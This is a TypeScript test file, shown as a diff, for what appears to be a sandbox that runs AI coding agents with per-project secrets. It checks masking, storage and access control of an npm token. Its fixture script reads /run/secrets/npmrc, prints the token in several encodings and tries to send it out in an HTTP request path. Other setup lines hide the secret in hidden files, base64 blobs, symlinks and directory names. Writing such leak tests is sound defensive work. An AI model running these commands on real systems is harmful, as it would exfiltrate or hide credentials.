@@ -1,0 +1,155 @@
+import { spawnSync } from 'node:child_process'
+import { statSync } from 'node:fs'
+import { join } from 'node:path'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import {
+  FILES,
+  given,
+  type Journey,
+  type RunningServer,
+  refusal,
+  startJourney,
+} from '#test/support/journey.ts'
+import { create, type Run, shell } from '#test/support/journey-model.ts'
+
+const TOKEN = 'npm_Zx81q+mirror/private%token=0042'
+const NPMRC = `registry=https://npm.example.org/\n//npm.example.org/:_authToken=${TOKEN}\n`
+
+/** Says the secret in every way, tries to carry it out, and fails. */
+const TELL = `
+const { readFileSync } = require('node:fs')
+const file = readFileSync('/run/secrets/npmrc', 'utf8')
+const token = file.trim().split('authToken=')[1]
+const base64 = Buffer.from(file).toString('base64')
+console.log('as it is', token)
+console.log('encoded', encodeURIComponent(token), Buffer.from(token).toString('base64'))
+console.log(base64.match(/.{1,40}/g).join('\\n'))
+console.log('Basic', Buffer.from('bot:' + token).toString('base64'))
+const path = 'http://npm.example.org/' + encodeURIComponent(token) + '/package'
+require('node:http').get({ host: '127.0.0.1', port: 3128, path, headers: { host: 'npm.example.org' } }, (res) => {
+  console.log(res.statusCode)
+  process.exit(1)
+})
+`
+
+let journey: Journey
+let server: RunningServer
+beforeAll(async () => {
+  journey = await startJourney({ ...FILES, 'tell.cjs': TELL, ...yaml('node tell.cjs') })
+  journey.model.play('work', WORK)
+  journey.model.play('manifest', [create('package.json', '{}\n')])
+  server = await journey.serve()
+})
+afterAll(() => journey.close())
+
+const WORK: Run = [shell('ls /run'), create('src/new.txt', 'new\n')]
+
+function yaml(setup: string, gates = '[]'): Record<string, string> {
+  return {
+    'airlock.yaml': `version: 1\nsecrets: [npmrc]\nsetup: [${JSON.stringify(setup)}]\ngates: ${gates}\n`,
+  }
+}
+
+async function failed(model = 'work') {
+  const task = await server.submit({ model })
+  return server.reaches(task.number, 'failed')
+}
+
+test('a secret that nobody stored fails the setup, and says who has to do what', async () => {
+  expect((await failed()).cause).toMatchObject({
+    code: 'setup_failed',
+    rule: 'secrets.absent',
+    remedy: expect.stringMatching(/airlock secret set \S+ npmrc < FILE/),
+    details: { absent: ['npmrc'] },
+  })
+})
+
+test('what setup says of a secret is masked in every dress, and it is stored nowhere but in its own file', async () => {
+  const project = given(await server.client.projects()).items[0]?.name ?? ''
+  given(await server.client.setSecret(project, { name: 'npmrc', content: NPMRC }))
+  const listed = await journey.airlock('secret', 'list', project)
+  expect([listed.exit, listed.out]).toEqual([0, expect.stringMatching(/npmrc +\d+ bytes/)])
+  const task = await failed()
+  const details = task.cause?.details as { output: string[]; refused: string }
+  expect(details.output.slice(0, 2)).toEqual([
+    'as it is [secret npmrc]',
+    expect.stringMatching(/^encoded \[secret npmrc\] \[secret npmrc\].{0,3}$/),
+  ])
+  expect(details.output.at(-2)).toMatch(/^Basic .{0,8}\[secret npmrc\]/)
+  expect(details.refused).toBe('GET http://npm.example.org/[secret npmrc]/package')
+  expect(task.egress?.requests).toMatchObject([{ path: '/[secret npmrc]/package' }])
+
+  await server.stop()
+  const holds = (wanted: string) => {
+    const places = [journey.dataDirectory, journey.runtimeDirectory]
+    return spawnSync('grep', ['-rlaF', '--', wanted, ...places])
+      .stdout.toString()
+      .split('\n')
+      .filter(Boolean)
+  }
+  const file = join(journey.dataDirectory, 'keys/secrets.json')
+  expect(holds(TOKEN)).toEqual([file])
+  expect((statSync(file).mode & 0o777).toString(8)).toBe('600')
+  const base64 = Buffer.from(NPMRC).toString('base64')
+  for (const dressed of [encodeURIComponent(TOKEN), Buffer.from(TOKEN).toString('base64').slice(0, -4)])
+    expect(holds(dressed)).toEqual([])
+  for (const line of base64.match(/.{40}/g) ?? []) expect(holds(line)).toEqual([])
+  server = await journey.serve()
+})
+
+test('setup alone sees it: neither the agent, nor a gate, nor setup that runs over a patch', async () => {
+  const seen = '[ -e /run/secrets/npmrc ] && echo yes >seen || echo no >seen; ! touch /run/secrets/npmrc'
+  const gate = 'echo "a:1: error: saw it: $(cat seen)"; [ ! -e /run/secrets ] && [ "$(cat seen)" = yes ]'
+  journey.commit(yaml(seen, JSON.stringify([{ name: 'seen', parser: 'lines', run: gate }])))
+  const task = await server.submit({ model: 'manifest', budget: { iterations: 1 } })
+  const ready = await server.reaches(task.number, 'awaiting_review')
+  expect(ready.gates?.gates).toMatchObject([
+    { base: 'pass', result: 'fail', new: [{ message: expect.any(String) }] },
+  ])
+  expect(ready.gates?.gates[0]?.new[0]?.message).toContain('saw it: no')
+  journey.commit(yaml(seen))
+  const other = await server.submit({ model: 'work' })
+  await server.reaches(other.number, 'awaiting_review')
+  const { body } = journey.model.requests().at(-1) ?? {}
+  const shown = JSON.stringify(body?.messages)
+  expect([/airlock/.test(shown), /secrets/.test(shown), /private%token/.test(shown)]).toEqual([
+    true,
+    false,
+    false,
+  ])
+})
+
+test.each([
+  ['as it is', 'mkdir -p a/b && cp /run/secrets/npmrc a/b/.hidden', './a/b/.hidden'],
+  ['in base64', 'base64 -w0 </run/secrets/npmrc >.git/kept', './.git/kept'],
+  ['as what a link points to', 'ln -s "$(sed -n s/.*authToken=//p /run/secrets/npmrc)" linked', './linked'],
+  ['as a name', 'mkdir "$(base64 -w0 </run/secrets/npmrc)"', '(a name that holds it)'],
+])('a setup that leaves the secret %s in the workspace fails', async (_, setup, file) => {
+  journey.commit(yaml(setup))
+  expect((await failed()).cause).toMatchObject({
+    code: 'setup_failed',
+    rule: 'secrets.left',
+    details: { files: [file] },
+  })
+})
+
+test('only an owner stores or forgets, and nobody is told the content', async () => {
+  const project = given(await server.client.projects()).items[0]?.id ?? ''
+  const person = { name: 'Mo', email: 'mo@example.org', role: 'maintainer' as const }
+  const { token } = given(await server.client.addPerson(person))
+  const secret = { name: 'other', content: 'something else' }
+  expect(refusal(await server.as(token).setSecret(project, secret)).code).toBe('permission_denied')
+  expect(refusal(await server.as(token).removeSecret(project, 'npmrc')).code).toBe('permission_denied')
+  expect(JSON.stringify(given(await server.as(token).secrets(project)))).not.toContain('private')
+  expect(refusal(await server.client.setSecret(project, { ...secret, name: '../x' })).code).toBe(
+    'invalid_input',
+  )
+  given(await server.client.removeSecret(project, 'npmrc'))
+  expect(refusal(await server.client.removeSecret(project, 'npmrc')).code).toBe('not_found')
+  const { items } = given(await server.client.auditEntries({ limit: 200 }))
+  const said = items.map(({ entry }) => JSON.parse(entry)).filter(({ action }) => /^secret\./.test(action))
+  expect(said.map(({ action, data }) => [action, data])).toEqual([
+    ['secret.removed', { name: 'npmrc' }],
+    ['secret.set', { name: 'npmrc', bytes: NPMRC.length }],
+  ])
+})
